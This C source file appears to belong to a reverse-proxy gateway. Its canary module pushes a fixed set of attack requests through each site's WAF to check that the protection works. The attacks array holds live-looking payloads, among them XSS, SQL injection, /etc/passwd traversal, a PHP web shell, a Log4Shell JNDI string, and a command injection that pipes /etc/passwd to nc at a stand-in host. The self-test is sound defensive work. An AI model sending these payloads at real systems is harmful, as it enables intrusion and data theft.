/* canary.c -- one request after the other, one policy after the other. */
#include "gateway/proxy/canary.h"

#include <stdio.h>

#include "gateway/http/h1.h"

/* A family each; of the classes that every edition of the Core Rule Set knows at paranoia 1. */
static const char *const attacks[CANARY_ATTACKS] = {
	"/?canary=%3Cscript%3Ealert(document.cookie)%3C/script%3E",
	"/?canary=1%27%20UNION%20SELECT%20username,password%20FROM%20users--%20-",
	"/?canary=../../../../../../etc/passwd",
	"/?canary=;cat%20/etc/passwd%7Cnc%20192.0.2.1%204444",
	"/?canary=%3C?php%20system(%24_GET%5B%27cmd%27%5D);?%3E",
	"/?canary=%24%7Bjndi:ldap://192.0.2.1/a%7D",
	"/?canary=%27%20or%20%271%27=%271%27%20--%20",
	"/?canary=%3Cimg%20src=x%20onerror=alert(1)%3E",
};
static const char clean[] = "/";

struct canary {
	struct generation *generation;
	void (*done)(struct canary *c, const char *why);
	unsigned site, request; /* the one that is walked; request CANARY_ATTACKS is the clean one */
	unsigned caught;
	bool walking;
	struct budget budget;
	struct arena arena;
	struct request req;
	struct facts facts;
	struct task next;
	char why[400];
	struct chain_run chain;
};

/* ---- One request ---- */

static struct slice host_of(const struct config_site *site)
{
	const struct slice *hosts = site->hosts.at;

	for (unsigned i = 0; i < site->hosts.n; i++)
		if (hosts[i].at[0] != '*')
			return hosts[i];
	return SLICE("canary.example");
}

static bool make_request(struct canary *c, const struct config_site *site)
{
	static const struct h1_limits limits = {8192, 4096, 32};
	const char *target = c->request < CANARY_ATTACKS ? attacks[c->request] : clean, *why;
	struct slice host = host_of(site), head;
	struct policy_facts *p = &c->facts.policy_facts;

	head = arena_print(&c->arena,
			   "GET %s HTTP/1.1\r\nHost: %.*s\r\nUser-Agent: Mozilla/5.0 (X11; Linux x86_64) Gecko/20100101\r\n"
			   "Accept: text/html\r\nAccept-Language: en\r\nAccept-Encoding: gzip\r\n\r\n",
			   target, SLICE_F(host));
	if (!head.at || h1_request(&c->arena, head, &limits, true, &c->req, &why))
		return false;
	c->facts = (struct facts){.canary = true, .id = SLICE("canary"), .site = site->head.key, .policy = site->policy, .secure = true};
	addr_parse(SLICE("192.0.2.1"), &c->facts.client);
	*p = (struct policy_facts){.method = c->req.method, .host = c->req.host, .path = c->req.path, .query = c->req.query,
				   .fields = &c->req.fields, .secure = true, .ip = c->facts.client, .tls_version = 0x0304,
				   .site = c->facts.site, .now = loop_wall_us(c->generation->proxy->loop) / 1000000,
				   .arena = &c->arena};
	return true;
}

static void leave(struct canary *c)
{
	if (c->walking)
		chain_done(&c->chain);
	c->walking = false;
	arena_done(&c->arena);
}

/* ---- What it came to ---- */

/* The site's name and what is wrong with its protection; false when nothing is. */
static bool complain(struct canary *c, const struct config_site *site)
{
	struct slice name = site->head.key;

	if (c->chain.record.deciding >= 0 && c->chain.verdict.reason != REASON_WAF_SCORE)
		snprintf(c->why, sizeof c->why, "site %.*s: a known request could not be inspected (%s)", SLICE_F(name),
			 reason_word(c->chain.verdict.reason));
	else if (c->request == CANARY_ATTACKS && c->facts.waf_caught)
		snprintf(c->why, sizeof c->why, "site %.*s: its WAF finds an attack in a plain GET / (score %u); look at its rules and threshold",
			 SLICE_F(name), c->facts.waf_score);
	else if (c->request == CANARY_ATTACKS && c->caught < CANARY_CAUGHT)
		snprintf(c->why, sizeof c->why,
			 "site %.*s: its WAF finds only %u of %d known attacks, and %d are expected; look at its exclusions, threshold "
			 "and rule set",
			 SLICE_F(name), c->caught, CANARY_ATTACKS, CANARY_CAUGHT);
	else
		return false;
	return true;
}

static void walked(struct canary *c)
{
	const struct config_site *site = (const struct config_site *)c->generation->config->sites.at + c->site;

	/* Where policy says that "/" is not inspected, nothing is expected there. */
	c->caught += (c->facts.waf_caught || c->facts.waf_off) && c->request < CANARY_ATTACKS;
	if (complain(c, site)) {
		leave(c);
		c->done(c, c->why);
		return;
	}
	leave(c);
	if (c->request++ == CANARY_ATTACKS) {
		c->site++;
		c->request = c->caught = 0;
	}
	task_start(c->generation->proxy->loop, &c->next);
}

static void settled(struct chain_run *run)
{
	walked(run->owner);
}

static void judged(struct chain_run *run, bool stop)
{
	(void)stop;
	/* In detect mode the answer is still to come. */
	if (run->background)
		run->settled = settled;
	else
		walked(run->owner);
}

/* ---- All of them ---- */

/* Sites with one policy have one chain. */
static bool is_asked(const struct config_site *sites, unsigned i)
{
	if (!sites[i].policy || !policy_inspects(sites[i].policy))
		return false;
	for (unsigned k = 0; k < i; k++)
		if (sites[k].policy == sites[i].policy)
			return false;
	return true;
}

static void next(struct task *t)
{
	struct canary *c = LIST_OF(t, struct canary, next);
	const struct generation *g = c->generation;
	const struct config_site *sites = g->config->sites.at;

	while (c->site < g->config->sites.n && !is_asked(sites, c->site))
		c->site++;
	if (c->site == g->config->sites.n) {
		c->done(c, NULL);
		return;
	}
	if (!make_request(c, &sites[c->site]) ||
	    !chain_init(&c->chain, g->proxy->loop, g->proxy->plan.filters, g->plan.confs, &c->req, &c->facts, &c->arena, judged, c)) {
		arena_done(&c->arena);
		c->done(c, "there is no memory to try the protection");
		return;
	}
	c->walking = true;
	chain_gate(&c->chain, GATE_REQUEST);
}

struct canary *canary_new(struct generation *g, void (*done)(struct canary *c, const char *why))
{
	struct canary *c = mem_take_zeroed(NULL, sizeof *c);

	if (!c)
		return NULL;
	c->generation = generation_hold(g);
	c->done = done;
	c->budget.parent = &g->proxy->memory;
	arena_init(&c->arena, &c->budget, 4096);
	task_init(&c->next, next);
	task_start(g->proxy->loop, &c->next);
	return c;
}

void canary_free(struct canary *c)
{
	if (!c)
		return;
	task_stop(&c->next);
	leave(c);
	generation_drop(c->generation);
	mem_give(NULL, c, sizeof *c);
}
